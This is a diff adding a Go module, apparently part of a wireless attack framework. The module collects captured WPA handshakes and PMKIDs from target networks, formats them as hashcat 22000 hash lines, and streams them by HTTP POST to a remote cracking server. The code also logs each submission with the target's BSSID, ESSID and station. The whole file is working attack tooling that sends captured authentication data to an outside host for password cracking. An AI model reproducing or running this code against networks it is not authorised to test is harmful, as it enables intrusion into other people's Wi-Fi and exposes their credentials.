@@ -0,0 +1,83 @@
+package wifi_crack
+
+import (
+	"fmt"
+	"net/http"
+	"strings"
+	"time"
+)
+
+// submit sends the lines to the hashcat server as a 22000 hash list.
+func (mod *WiFiCracker) submit(lines []string) error {
+	req, err := http.NewRequest("POST", mod.server, strings.NewReader(strings.Join(lines, "\n")+"\n"))
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "text/plain")
+	req.Header.Set("X-Hash-Mode", "22000")
+	if mod.token != "" {
+		req.Header.Set("Authorization", "Bearer "+mod.token)
+	}
+
+	res, err := mod.client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer res.Body.Close()
+
+	if res.StatusCode < 200 || res.StatusCode > 299 {
+		return fmt.Errorf("%s returned %s", mod.server, res.Status)
+	}
+	return nil
+}
+
+// streamJobs sends the hashes of the targets to the hashcat server as soon as
+// they are captured, until the module is stopped.
+func (mod *WiFiCracker) streamJobs() {
+	mod.Info("sending handshakes and PMKIDs to %s ...", mod.server)
+
+	submitted := make(map[string]bool)
+	ticker := time.NewTicker(progressPeriod)
+	defer ticker.Stop()
+
+	for {
+		for _, t := range mod.collectTargets() {
+			if _, found := mod.store.found(t.ID()); found {
+				continue
+			}
+
+			lines := make([]string, 0)
+			for _, line := range t.Hashcat() {
+				if !submitted[line] {
+					lines = append(lines, line)
+				}
+			}
+			if len(lines) == 0 {
+				continue
+			}
+
+			if err := mod.submit(lines); err != nil {
+				mod.Warning("could not submit %s (%s): %v", t.ID(), t.ESSID, err)
+				continue
+			}
+
+			for _, line := range lines {
+				submitted[line] = true
+			}
+			mod.Session.Events.Add("wifi.crack.submitted", CrackJob{
+				Server:  mod.server,
+				BSSID:   t.BSSID,
+				ESSID:   t.ESSID,
+				Station: t.Station,
+				Kind:    t.Kind(),
+				Hashes:  len(lines),
+			})
+		}
+
+		select {
+		case <-mod.quit:
+			return
+		case <-ticker.C:
+		}
+	}
+}